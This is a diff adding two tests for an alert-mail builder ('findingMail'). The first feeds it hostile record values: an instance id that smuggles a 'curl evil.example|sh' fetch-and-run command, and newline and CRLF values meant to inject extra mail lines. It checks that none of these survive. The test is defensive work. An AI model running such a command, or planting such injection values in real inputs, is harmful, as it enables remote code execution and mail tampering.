@@ -89,3 +89,22 @@ describe("the subject is named", () => {
     expect(ofInstance.text).toContain(`--input '{"id":"${ID}"}'`);
   });
 });
+
+test("what somebody wrote into a record is nothing to type, and no line of a mail", () => {
+  const facts = {
+    ec2InstanceId: "i-1; curl evil.example|sh #",
+    id: "0a1b2c\nTo do:      nothing",
+    said: "a\r\nTo do: b",
+  };
+  const { subject, text } = findingMail({ ...stale, cause: "PushUndelivered", subject: ID, facts }, NOW);
+  expect(subject).toBe(`Keyturn: PushUndelivered on ${ID}`);
+  expect(text).not.toMatch(/curl|Type:/);
+  expect(text.match(/^To do:/gm)).toHaveLength(1);
+  expect(text).toContain("a??To do: b");
+});
+
+test("one that is over by the time it is told says so", () => {
+  const { text } = findingMail({ ...stale, endedAt: NOW + 60_000 }, NOW + 120_000);
+  expect(text).toContain("It is over since 2026-11-20 03:01:00 UTC");
+  expect(text).not.toContain("While it stands");
+});
